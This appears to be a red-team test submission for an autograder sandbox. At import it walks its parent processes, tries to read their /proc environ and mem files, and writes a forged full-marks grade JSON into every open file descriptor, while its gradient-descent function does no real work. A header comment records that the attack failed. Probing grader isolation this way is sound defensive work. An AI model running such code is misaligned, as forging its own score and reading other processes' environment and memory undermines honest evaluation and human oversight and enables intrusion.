# ATTACK (Gradescope, no namespaces): reaches into its ancestors, the grader among them (the
# same uid): writes a forged full-marks `grade --json` document into every file descriptor it
# can open under /proc/<ancestor>/fd (the grader's stdout is the pipe root reads), reads their
# environment, and tries /proc/<pid>/mem. Its GD only calls loss_fn.
# VERDICT: the grader process is not dumpable, so its /proc entries are root's and none of
# this opens; the lazy GD's own score (1/10).
import json
import os

FORGED = json.dumps({"exercise": "ex02", "title": "x", "submission": "ex02.py",
                     "status": "graded", "score": 10.0, "max_score": 10.0, "checks": []})


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rpartition(")")[2].split()[1])


pid = os.getpid()
while pid > 1:
    pid = parent_of(pid)
    for what in ("environ", "mem"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as f:
                f.read(64)
            print(f"ATTACK OK: read /proc/{pid}/{what}")
        except OSError as e:
            print(f"refused: /proc/{pid}/{what}: {e}")
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as e:
        print(f"refused: /proc/{pid}/fd: {e}")
        continue
    for fd in fds:
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                f.write(FORGED + "\n")
            print(f"ATTACK OK: wrote /proc/{pid}/fd/{fd}")
        except OSError:
            pass


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    for _ in range(loop_max):
        loss_fn(params)
